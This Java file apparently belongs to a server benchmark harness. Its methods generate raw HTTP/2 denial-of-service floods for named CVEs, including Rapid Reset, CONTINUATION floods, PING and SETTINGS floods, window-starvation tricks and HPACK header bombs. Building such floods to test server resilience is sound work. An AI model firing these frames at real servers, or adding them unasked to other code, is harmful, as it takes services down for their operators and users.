package dev.ballast.benchmark;

/** One thing of HTTP/2, said again and again. */
interface Flood extends Script {
    /** Said at a time. */
    int STRIKES = 50;

    /** Writes what is said the n-th time on a connection, from 0; nothing when it has said all. */
    void strike(Frames out, int n);

    @Override
    default byte[] opening(int number) {
        byte[] preface = Script.ascii("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
        return new Frames().add(preface).raw().frame(Frames.SETTINGS, 0, 0).octets();
    }

    @Override
    default byte[] more(int n) {
        Frames frames = new Frames();
        for (int i = 0; i < STRIKES; i++) {
            strike(frames, n * STRIKES + i);
        }
        return frames.octets();
    }

    /** Requests that are taken back at once (CVE-2023-44487). */
    static Flood rapidReset() {
        return (out, n) -> out.get(2 * n + 1, "/").frame(Frames.RST_STREAM, 0, 2 * n + 1, 0, 0, 0, 8);
    }

    /** A header block of crumbs that does not end (CVE-2024-27316 and others). */
    static Flood continuations() {
        return (out, n) -> out.frame(n == 0 ? Frames.HEADERS : Frames.CONTINUATION, 0, 1, 0, 1, 'x', 1, 'y');
    }

    /** Each is to be acknowledged (CVE-2019-9515). */
    static Flood settings() {
        return (out, n) -> out.frame(Frames.SETTINGS, 0, 0);
    }

    /** Each is to be answered (CVE-2019-9512). */
    static Flood pings() {
        return (out, n) -> out.frame(Frames.PING, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8);
    }

    /** A body of frames without an octet (CVE-2019-9518). */
    static Flood emptyFrames() {
        return (out, n) -> {
            if (n == 0) {
                out.post(1, "/");
            }
            out.frame(Frames.DATA, 0, 1);
        };
    }

    /** Priorities of streams that are not there (CVE-2019-9513). */
    static Flood priorities() {
        return (out, n) -> out.frame(Frames.PRIORITY, 0, 2 * n + 1, 0, 0, 0, 0, 1);
    }

    /** As many large answers as there may be streams, and no window for them (CVE-2019-9517). */
    static Flood noWindow() {
        return (out, n) -> {
            if (n == 0) {
                out.frame(Frames.SETTINGS, 0, 0, 0, 4, 0, 0, 0, 0);
            }
            if (n < 100) {
                out.get(2 * n + 1, "/?bytes=65536");
            }
        };
    }

    /** A large answer through a window of one octet, opened by one octet at a time (CVE-2019-9511). */
    static Flood tinyWindow() {
        return (out, n) -> {
            if (n == 0) {
                out.frame(Frames.SETTINGS, 0, 0, 0, 4, 0, 0, 0, 1).get(1, "/?bytes=1048576");
            }
            out.frame(Frames.WINDOW_UPDATE, 0, 1, 0, 0, 0, 1);
        };
    }

    /** Header lists of 15 KiB out of 30 octets: a field that the table knows; kept, because the answers are late (CVE-2016-1544, CVE-2016-6581). */
    static Flood headerBombs() {
        byte[] value = Script.ascii("y".repeat(3_900));
        return (out, n) -> {
            Frames head = out.begin().asking("/?delay=5s");
            if (n == 0) {
                head.add(0x40, 1, 'x', 0x7f, 0xbd, 0x1d).add(value); // Indexed from now on; 127 + 3,773 octets.
            } else {
                head.add(0xbe, 0xbe, 0xbe, 0xbe);
            }
            head.end(Frames.HEADERS, Frames.END_STREAM | Frames.END_HEADERS, 2 * n + 1);
        };
    }
}
